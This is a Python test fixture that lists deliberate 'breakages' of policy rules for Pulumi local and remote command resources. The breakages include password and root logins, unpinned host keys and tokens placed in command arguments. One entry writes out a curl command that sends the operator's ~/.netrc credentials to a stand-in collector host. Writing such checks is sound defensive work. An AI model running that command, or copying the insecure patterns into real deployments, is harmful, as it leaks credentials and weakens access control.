"""What the rules of commands must notice, broken."""

import secrets
from collections.abc import Callable
from typing import Any

import pulumi
import pulumi_command as command
from breakage import Breakage, Props, changing, setting

from policies.resource_types import LOCAL_COMMAND, REMOTE_COMMAND, REMOTE_COPY


def _by(**changes: Any) -> Callable[[Props], None]:
    """By a connection that is written out whole: one with a part that isn't known is hidden at a preview."""
    key = f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{'A' * 43}"
    written = {"host": "100.64.0.9", "user": "tenantry", "host_key": key, **changes}
    given = {name: value for name, value in written.items() if value is not None}
    return lambda props: props.update(connection=command.remote.ConnectionArgs(**given))


def _telling_a_secret(props: Props) -> None:
    props["create"] = f"{props['create']} --token {secrets.token_urlsafe(32)}"


def _in_its_environment(props: Props) -> None:
    props["environment"] = {"TOKEN": secrets.token_urlsafe(32)}


def _on_the_operators_machine() -> None:
    command.local.Command(f"{pulumi.get_stack()}-network-hook", create="echo hello")


BREAKAGES: tuple[Breakage, ...] = (
    Breakage(
        name="another-text",
        rule="local-command-known",
        what="something else than the pinning of a key, on the operator's machine",
        apply=setting(LOCAL_COMMAND, create="curl --data @$HOME/.netrc https://collector.example"),
    ),
    Breakage(
        name="command-past-the-mesh",
        rule="remote-to-the-mesh-alone",
        what="a release that is copied to a private address, past the mesh",
        apply=changing(REMOTE_COPY, _by(host="10.32.0.9"), name="-guardrail-1"),
    ),
    Breakage(
        name="command-to-a-written-address",
        rule="remote-to-a-host-of-this-stack",
        what="a delivery to an address of the mesh that is written out, and may be another tenant's",
        apply=changing(REMOTE_COMMAND, _by(), name="-guardrail-1"),
    ),
    Breakage(
        name="command-by-password",
        rule="remote-without-passwords",
        what="a delivery by password",
        apply=changing(REMOTE_COMMAND, _by(password=secrets.token_urlsafe(16)), name="-guardrail-1"),
    ),
    Breakage(
        name="command-as-root",
        rule="remote-without-passwords",
        what="a delivery as root",
        apply=changing(REMOTE_COMMAND, _by(user="root"), name="-agent-"),
    ),
    Breakage(
        name="any-host-key",
        rule="remote-host-key-pinned",
        what="a delivery to whoever has the address",
        apply=changing(REMOTE_COMMAND, _by(host_key=None), name="-guardrail-1"),
    ),
    Breakage(
        name="secret-in-a-command",
        rule="remote-command-holds-no-secret",
        what="a command with a token among its arguments",
        apply=changing(REMOTE_COMMAND, _telling_a_secret, name="-guardrail-1"),
    ),
    Breakage(
        name="secret-in-an-environment",
        rule="remote-command-holds-no-secret",
        what="a command with a token in its environment",
        apply=changing(REMOTE_COMMAND, _in_its_environment, name="-agent-"),
    ),
    Breakage(
        name="command-that-repeats",
        rule="remote-command-quiet",
        what="a delivery whose output is logged",
        apply=changing(REMOTE_COMMAND, lambda props: props.update(logging=None), name="-guardrail-1"),
    ),
    Breakage(
        name="command-of-the-operators",
        rule="local-command-known",
        what="a command on the operator's machine",
        extra=_on_the_operators_machine,
    ),
)
